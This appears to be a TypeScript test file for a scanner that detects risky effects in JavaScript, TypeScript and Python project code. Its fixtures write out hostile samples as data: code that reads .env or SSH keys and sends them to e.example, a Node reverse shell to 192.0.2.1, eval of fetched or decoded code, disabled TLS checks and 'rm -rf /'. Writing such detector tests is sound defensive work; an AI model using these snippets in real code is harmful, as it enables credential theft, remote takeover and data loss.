import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import type { CodeFinding, CodeText } from '../../../../src/effect/code/codeFinding';
import { projectLanguageOf, scanProjectCode } from '../../../../src/effect/code/projectCode';
import type { ProjectLanguage } from '../../../../src/effect/code/projectLanguages';
import { SECRET } from '../../../../src/effect/shell/value';

const NAMES: Readonly<Record<number, string>> = { 0: '', 1: ' secret', 2: ' remote', 4: ' decoded' };

/** Findings as a person would note them. */
function noted(language: ProjectLanguage, source: string): readonly string[] {
  return scanProjectCode(language, source).flatMap((finding) => note(finding) ?? []);
}

function note(finding: CodeFinding): string | undefined {
  const said = ({ text, head, taint }: CodeText) => `${text ?? `${head ?? ''}…`}${NAMES[taint] ?? ''}`;
  switch (finding.kind) {
    case 'module':
    case 'environment':
    case 'names':
      return undefined;
    case 'shell':
    case 'code':
      return `${finding.kind} ${said(finding.text)}`;
    case 'command':
      return `command ${finding.words.map(said).join(' ')}`;
    case 'request':
      return `${finding.isUpload ? 'upload' : 'request'} ${said(finding.url)}`;
    case 'set':
      return `set ${finding.name}`;
    case 'effect':
      return finding.detail;
    case 'unknown':
      return `unknown ${finding.what}`;
    default:
      return `${finding.kind} ${said(finding.file)}`;
  }
}

const CASES: readonly [title: string, language: ProjectLanguage, source: string, expected: readonly string[]][] = [
  [
    'finds programs in methods, defaults and decorators of TypeScript',
    'typescript',
    `import { execSync } from 'node:child_process';\nexport class A {\n  @dec(() => execSync('a1'))\n  run(private readonly x: string = execSync('a2').toString()): void { execSync(\`git log \${x}\`); }\n}`,
    ['shell a1', 'shell a2', 'shell git log …'],
  ],
  [
    'finds programs in enums, namespaces and modules that are required',
    'typescript',
    "import cp = require('child_process');\nenum E { A = cp.execSync('a1') as never }\nnamespace N { export const x = cp.exec('a2'); }\nabstract class B<T> { abstract f(): T; static { cp.exec('a3'); } }",
    ['shell a1', 'shell a2', 'shell a3'],
  ],
  [
    'takes types out of TypeScript',
    'typescript',
    "import type { X } from 'x';\nimport { type Y, z } from 'y';\ndeclare module 'q' { export const a: number; }\ndeclare global { interface Window { a: 1 } }\nexport type { X };\nfunction f(this: Window, a: number): void;\nfunction f(this: Window, a?: unknown): void { z(a!, <string>a, a satisfies Y, f<number>); }\nlet g = async <T extends object>(x: T): Promise<T> => x;\nexport default interface D {}\nexport = g;",
    [],
  ],
  [
    'finds programs in elements',
    'tsx',
    "import { exec } from 'child_process';\nexport const C = <T,>({ a }: { a: T }) => <><div {...a} x:y='1' onClick={() => exec('a1')}>{a}{/* no */} text</div><A.B c={<b/>} /></>;",
    ['shell a1'],
  ],
  ['finds elements in plain files as well', 'javascript', 'export const A = () => <div>{eval(x)}</div>;', ['code …']],
  [
    'follows names that are put together',
    'javascript',
    "const m = 'child_' + 'process';\nrequire(m)['ex' + 'ec']('a1');\nimport('child_' + 'process').then((c) => c.exec('a2'));\nconst { spawn: go } = await import('node:child_process');\ngo('a3', ['b']);",
    ['shell a1', 'shell a2', 'command a3 b'],
  ],
  [
    'follows a command through functions of the file',
    'javascript',
    "const { promisify } = require('util');\nconst run = promisify(require('child_process').exec);\nfunction go(command) { return run(command); }\nmodule.exports = { clean: () => go('a1') };",
    ['shell a1', 'shell …'],
  ],
  [
    'names what is looked up or run as code',
    'javascript',
    "eval(x); new Function('return 1')(); globalThis[k]('x'); process.binding('fs'); require(name); require('vm').runInNewContext(y); setTimeout('a()', 1);",
    [
      'code …',
      'code return 1',
      'unknown a member of globalThis named while running',
      'unknown process.binding',
      'unknown require of a module named while running',
      'code …',
      'code a()',
    ],
  ],
  [
    'tells text that is decoded, or fetched, and run',
    'javascript',
    "eval(atob('eA=='));\nnew Function(Buffer.from(x, 'base64').toString())();\nconst r = await fetch(u);\neval(await r.text());",
    ['code … decoded', 'code … remote'],
  ],
  [
    'follows secrets into requests',
    'javascript',
    "const fs = require('fs');\nasync function x() {\n  const env = fs.readFileSync('.env', 'utf8');\n  await fetch('https://e.example/c', { method: 'POST', body: env });\n  await fetch('https://e.example/e', { method: 'POST', body: JSON.stringify(process.env) });\n}",
    ['read .env', 'upload https://e.example/c secret', 'upload https://e.example/e secret'],
  ],
  [
    'takes keys for their own service as ordinary',
    'typescript',
    `const key = process.env.API_KEY ?? '';\nexport const ask = (id: string) =>\n  fetch(\`https://api.example.com/v1/\${id}\`, { method: 'POST', headers: { Authorization: \`Bearer \${key}\` }, body: '{}' });`,
    ['upload https://api.example.com/v1/some'],
  ],
  [
    'finds a shell that is given to another machine',
    'javascript',
    "const net = require('net');\nconst sh = require('child_process').spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '192.0.2.1', () => { c.pipe(sh.stdin); });",
    ['command /bin/sh', 'upload 192.0.2.1', 'run.reverseShell'],
  ],
  [
    'finds checks that are switched off',
    'javascript',
    "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';\nnew https.Agent({ rejectUnauthorized: false, checkServerIdentity: () => undefined });\napp.use(cors({ origin: '*', credentials: true }));\njwt.verify(t, k, { algorithms: ['none'] });\nnew https.Agent({ rejectUnauthorized: true });",
    [
      'change.tls',
      'change.tls',
      'change.tls',
      'change.authentication',
      'change.authentication',
      'set NODE_TLS_REJECT_UNAUTHORIZED',
    ],
  ],
  [
    'takes servers, databases and queries of all kinds as ordinary',
    'javascript',
    "const app = express();\napp.post('/x', async (req, res) => { await db.exec('SELECT 1'); res.send(/a/.exec(req.body)); });\nfs[method](path); handlers[name](event); window.foo = 1; this.process(this.fs); page.eval(1); new Worker('./w.js');",
    [],
  ],
  [
    'finds programs anywhere in Python',
    'python',
    "import os, subprocess\nfrom subprocess import run as go\nclass A:\n  @dec\n  async def f(self, x):\n    os.system('a1')\n    subprocess.run(['a2', 'b'], check=True)\n    go('a3', shell=True)\n    __import__('os').popen('a4')\n    subprocess.Popen([x, 'a5'])\n",
    ['shell a1', 'command a2 b', 'shell a3', 'shell a4', 'command … a5'],
  ],
  [
    'names what Python looks up or runs as code',
    'python',
    "import os, base64\ndef f(x):\n  getattr(os, x)('id')\n  exec(x)\n  exec(base64.b64decode(x))\n  eval('1 + 1')\n  __import__(x)\n  getattr(x, 'a')\n",
    [
      'unknown a member of os named while running',
      'code …',
      'code … decoded',
      'code 1 + 1',
      'unknown import of a module named while running',
    ],
  ],
  [
    'follows secrets through Python',
    'python',
    "import os, requests, urllib.request\ndef go():\n  data = open('/home/dev/.ssh/id_rsa').read()\n  urllib.request.urlopen('https://e.example/?d=' + data)\n  requests.post('https://e.example/', json=dict(os.environ))\n  requests.get('https://api.example.com/', headers={'X-Key': os.environ['API_KEY']}, verify=False)\n",
    [
      'change.tls',
      'read /home/dev/.ssh/id_rsa',
      'request https://e.example/?d=… secret',
      'upload https://e.example/ secret',
      'request https://api.example.com/',
    ],
  ],
  [
    'takes ordinary Python as ordinary',
    'python',
    "import logging, pickle\nimport numpy as np\nfrom django.db import models\nlog = logging.getLogger(__name__)\nclass Item(models.Model):\n  name = models.CharField(max_length=9)\n  def save(self, *args, **kwargs):\n    super().save(*args, **kwargs)\n    log.info('saved %s', self.name)\ndef test_x(tmp_path):\n  (tmp_path / 'a').write_text('x')\n  assert np.array([1]).sum() == getattr(Item, 'x', 1)\n",
    ['write /tmp/some/a'],
  ],
  [
    'reads what stands in text that has no syntax that it knows',
    'python',
    "def f[T](x: T): pass\nimport os\nos.system('a1')\n",
    ['shell a1'],
  ],
];

describe('code of the project', () => {
  for (const [title, language, source, expected] of CASES)
    it(title, () => {
      assert.deepEqual(noted(language, source), expected);
    });

  it('marks what is sent with the secret in it', () => {
    const findings = scanProjectCode(
      'python',
      "import requests\nrequests.post('https://e.example/', data=open('.env'))\n",
    );
    const sent = findings.find(({ kind }) => kind === 'request');
    assert.ok(sent?.kind === 'request' && (sent.url.taint & SECRET) !== 0);
  });

  it('finds nothing but what is there in its own source', () => {
    const found = readdirSync('src/effect/code').flatMap((name) =>
      scanProjectCode('typescript', readFileSync(join('src/effect/code', name), 'utf8')).flatMap(({ kind }) =>
        /^(?:shell|command|code|request|write|delete|effect)$/.test(kind) ? [`${name} ${kind}`] : [],
      ),
    );
    assert.deepEqual(found, []);
  });

  it('tells languages by names of files', () => {
    assert.deepEqual(['a.mjs', 'a.JSX', 'a.cts', 'a.d.ts', 'a.tsx', 'a.py', 'a.go', 'ts'].map(projectLanguageOf), [
      'javascript',
      'javascript',
      'typescript',
      undefined,
      'tsx',
      'python',
      undefined,
      undefined,
    ]);
  });

  it('neither fails nor hangs, whatever it reads', () => {
    const pieces = CASES.flatMap(([, , source]) => source.split(/(?<=[\s(){}[\]'"`;])/));
    const text = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 5 })), { maxLength: 60 });
    fc.assert(
      fc.property(
        text,
        fc.constantFrom<ProjectLanguage>('javascript', 'typescript', 'tsx', 'python'),
        (all, language) => {
          const started = performance.now();
          scanProjectCode(language, all.join(''));
          assert.ok(performance.now() - started < 5_000);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('ends on code that is deep, long, or goes round', () => {
    const texts = [
      '('.repeat(20_000),
      `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
      'f(() => '.repeat(2_000),
      `const f = () => f(f(f(f())));\n${'f();'.repeat(3_000)}`,
      'a = a + "x" + a;\n'.repeat(5_000),
      `x = [${'1,'.repeat(100_000)}]`,
      `"${'\\'.repeat(100_001)}`,
    ];
    for (const text of texts)
      for (const language of ['javascript', 'typescript', 'python'] as const) {
        const started = performance.now();
        scanProjectCode(language, text);
        assert.ok(performance.now() - started < 5_000, text.slice(0, 20));
      }
  });
});

describe('code with much in it', () => {
  const PADDING = Array.from({ length: 3500 }, (_, index) => `x${index} = ${index} + 1`).join('\n');
  const RUN = 'import subprocess\ndef run(c):\n    subprocess.run(c)\n';

  it('still shows what a function is called with at its end', () => {
    for (const before of ['', "run(['ls'])\n"])
      assert.ok(noted('python', `${RUN}${before}${PADDING}\nrun(['rm', '-rf', '/'])\n`).includes('command rm -rf /'));
  });

  it('still shows what a function finds in a name that changed since it was called', () => {
    const code = `import subprocess\nC = ['ls']\ndef run():\n    subprocess.run(C)\nrun()\n${PADDING}\nC = ['rm', '-rf', '/']\nrun()\n`;
    assert.ok(noted('python', code).includes('command rm -rf /'));
  });

  it('says so when there is more than is read', () => {
    const much = `${PADDING}\n`.repeat(4);
    assert.ok(noted('python', much).includes('unknown too much code to look through'));
  });
});
